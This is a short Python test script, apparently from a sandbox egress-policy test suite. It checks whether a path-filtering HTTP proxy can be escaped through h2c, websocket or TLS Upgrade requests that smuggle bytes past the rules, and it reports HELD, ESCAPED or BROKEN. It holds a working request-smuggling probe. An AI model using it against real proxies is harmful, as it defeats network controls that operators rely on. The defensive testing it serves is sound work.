# attack: a tunnel by Upgrade, where rules speak of requests
# family: 21
# runs: exec
# stopped-by: gate-single
# network: {"rules": [{"allow": "allowed.example", "paths": ["/ok", "/switch/*"]}]}
#
# h2c smuggling: behind a 101 the proxy only passes bytes, and the next request is anybody's.
import socket


def _talk(host, port, text):
    """What comes back until the other side ends, or as much as came before it reset."""
    got = b""
    try:
        with socket.create_connection((host, port), 5) as s:
            s.sendall(text)
            while part := s.recv(65536):
                got += part
    except OSError:
        pass
    return got


def attack():
    if b'"server"' not in _talk(
        "allowed.example", 80, b"GET /ok HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n"
    ):
        return "BROKEN: not even the allowed request is answered"
    for protocol in ("h2c", "websocket", "TLS/1.0"):
        head = (
            f"GET %s/switch/{protocol} HTTP/1.1\r\nHost: allowed.example\r\nConnection: Upgrade,"
            f" HTTP2-Settings\r\nUpgrade: {protocol}\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nSec-WebSocket-Key:"
            " eA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        )
        for host, port, before in (("allowed.example", 80, ""), ("127.0.0.1", 15001, "http://allowed.example")):
            with socket.create_connection((host, port), 5) as s:
                s.settimeout(3)
                got = b""
                try:
                    s.sendall((head % before).encode() + b"PRI * HTTP/2.0\r\n\r\nthrough the tunnel")
                    while b"through the tunnel" not in got and (part := s.recv(65536)):
                        got += part
                except OSError:
                    pass
            if b"through the tunnel" in got:
                return f"ESCAPED: bytes went through an upgrade to {protocol}"
    return "HELD: nothing is passed on after the request"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
